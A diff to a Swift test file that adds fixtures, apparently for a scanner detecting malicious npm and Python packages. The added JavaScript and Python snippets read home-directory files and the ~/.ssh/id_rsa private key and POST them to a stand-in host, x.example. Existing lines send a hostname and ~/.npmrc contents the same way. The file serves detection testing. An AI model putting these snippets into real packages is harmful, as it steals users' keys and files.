@@ -41,6 +41,25 @@ let setupFixtures = RuleFixtures(
             try npmInstall("\(postToDrop)\nrequest.end(require('os').hostname())\n")
         },
         .networkAtInstall: { try npmInstall("require('https').get('https://x.example/list.json', () => {})\n") },
+        .homeFilesSent: {
+            try npmCode(
+                """
+                const fs = require('fs'), path = require('path'), os = require('os')
+                const found = {}
+                for (const name of fs.readdirSync(os.homedir())) found[name] = fs.readFileSync(name, 'utf8')
+                fetch('https://x.example/u', { method: 'POST', body: JSON.stringify(found) })
+
+                """)
+        },
+        .credentialSent: {
+            try wheelCode(
+                """
+                import os, requests
+                key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+                requests.post('https://x.example', data=key)
+
+                """)
+        },
         .secretsBesideNetwork: {
             try npmCode(
                 "\(postToDrop)\nrequest.end(require('fs').readFileSync(require('os').homedir() + '/.npmrc'))\n")
